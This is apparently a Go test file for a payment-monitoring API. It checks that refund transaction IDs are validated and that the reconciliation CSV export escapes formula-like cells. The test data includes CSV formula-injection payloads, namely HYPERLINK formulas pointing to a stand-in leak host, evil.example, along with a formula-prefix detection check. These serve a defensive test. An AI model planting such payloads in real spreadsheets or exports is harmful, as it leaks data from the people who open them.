package api_test

import (
	"context"
	"encoding/csv"
	"maps"
	"math/big"
	"strings"
	"testing"
	"unicode"

	"github.com/paywatch/paywatch/payment"
	"github.com/paywatch/paywatch/paywatchtest"
)

// A refund_txid is trimmed and must have its network's transaction id
// shape; and every free-text cell of the reconciliation CSV is defused
// after leading blanks, so ` =HYPERLINK(...)` never reaches a spreadsheet
// as a formula (a key name, or a refund id stored before this check).
func TestRefundTxIDShapeAndCSVFormulaGuard(t *testing.T) {
	e := paywatchtest.New(t, paywatchtest.Only(payment.Bitcoin, payment.Ethereum))
	ctx := context.Background()
	hex64 := strings.Repeat("c0ffee", 10) + "abcd"
	payLookahead(t, e, payment.Bitcoin, big.NewInt(10000), "unknown-1")
	payLookahead(t, e, payment.Bitcoin, big.NewInt(20000), "unknown-2")
	payLookahead(t, e, payment.Ethereum, big.NewInt(1e15), "unknown-eth")
	e.Sync(payment.Bitcoin)
	e.Sync(payment.Ethereum)
	p := inbox(t, e, "network=bitcoin")
	q := inbox(t, e, "network=ethereum")
	if len(p.Transfers) != 2 || len(q.Transfers) != 1 {
		t.Fatalf("inbox: %+v %+v", p.Transfers, q.Transfers)
	}
	btc1, btc2, eth := p.Transfers[0], p.Transfers[1], q.Transfers[0]

	before := e.Counts()
	for _, c := range []struct{ id, txid string }{
		{btc1.ID, ` =HYPERLINK("https://evil.example/?leak","` + hex64 + `")`},
		{btc1.ID, "=" + hex64[1:]},
		{btc1.ID, "0x" + hex64},
		{btc1.ID, hex64[:63]},
		{eth.ID, hex64},
		{eth.ID, " 0x" + hex64[:60] + "=1+1"},
	} {
		st, body := resolve(e, c.id, "finance", map[string]string{"action": "refunded", "refund_txid": c.txid, "note": "sent back"})
		if code := errCode(t, body); st != 400 || code != "invalid_request" || !strings.Contains(string(body), "hex digits") {
			t.Fatalf("refund_txid %q: %d %s, want 400 invalid_request naming the shape", c.txid, st, body)
		}
	}
	if after := e.Counts(); !maps.Equal(before, after) {
		t.Fatalf("refused resolutions changed the database: %v → %v", before, after)
	}
	// Valid ids are stored trimmed (hex in lower case).
	if st, body := resolve(e, btc1.ID, "finance", map[string]string{"action": "refunded", "refund_txid": "  " + strings.ToUpper(hex64) + "  ", "note": "sent back"}); st != 200 {
		t.Fatalf("refund btc: %d %s", st, body)
	}
	if st, body := resolve(e, eth.ID, "finance", map[string]string{"action": "refunded", "refund_txid": "0x" + hex64, "note": "sent back"}); st != 200 {
		t.Fatalf("refund eth: %d %s", st, body)
	}
	var stored string
	if err := e.Store.Pool().QueryRow(ctx, `SELECT refund_txid FROM resolutions WHERE transfer_id = $1`, btc1.ID).Scan(&stored); err != nil || stored != hex64 {
		t.Fatalf("stored refund_txid %q (%v), want %q", stored, err, hex64)
	}

	// A finance key whose name is a formula after a blank resolves the
	// other transfer; and the btc refund id is overwritten as a row stored
	// before refund ids were checked would be.
	evil, _, err := e.Store.CreateAPIKey(ctx, ` =HYPERLINK("https://evil.example")`, []string{"finance"}, e.Clock.Now())
	if err != nil {
		t.Fatal(err)
	}
	e.Keys["evil"] = evil
	if st, body := resolve(e, btc2.ID, "evil", map[string]string{"action": "ignore", "note": " -2+3 spam"}); st != 200 {
		t.Fatalf("ignore: %d %s", st, body)
	}
	legacy := ` =HYPERLINK("https://evil.example/?` + hex64 + `")`
	if _, err := e.Store.Pool().Exec(ctx, `UPDATE resolutions SET refund_txid = $2 WHERE transfer_id = $1`, btc1.ID, legacy); err != nil {
		t.Fatal(err)
	}

	st, body := e.Do("GET", "/v1/reports/reconciliation?from=2026-11-01&to=2026-12-01&format=csv", "finance", nil)
	if st != 200 {
		t.Fatalf("csv: %d %s", st, body)
	}
	recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 4 {
		t.Fatalf("csv has %d records, want a header and 3 rows:\n%s", len(recs), body)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	guarded := map[string]bool{}
	for _, r := range recs[1:] {
		for i, cell := range r {
			trimmed := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) })
			if trimmed != "" && strings.ContainsRune("=+-@\t\r", rune(trimmed[0])) {
				t.Fatalf("cell %s = %q of transfer %s reaches the spreadsheet as a formula", recs[0][i], cell, r[0])
			}
			if strings.HasPrefix(cell, "'") {
				guarded[recs[0][i]+"="+cell] = true
			}
		}
	}
	for _, want := range []string{"refund_txid='" + legacy, `resolved_by=' =HYPERLINK("https://evil.example")`, "resolution_note='-2+3 spam"} {
		if !guarded[want] {
			t.Fatalf("no guarded cell %s in %v", want, guarded)
		}
	}
}
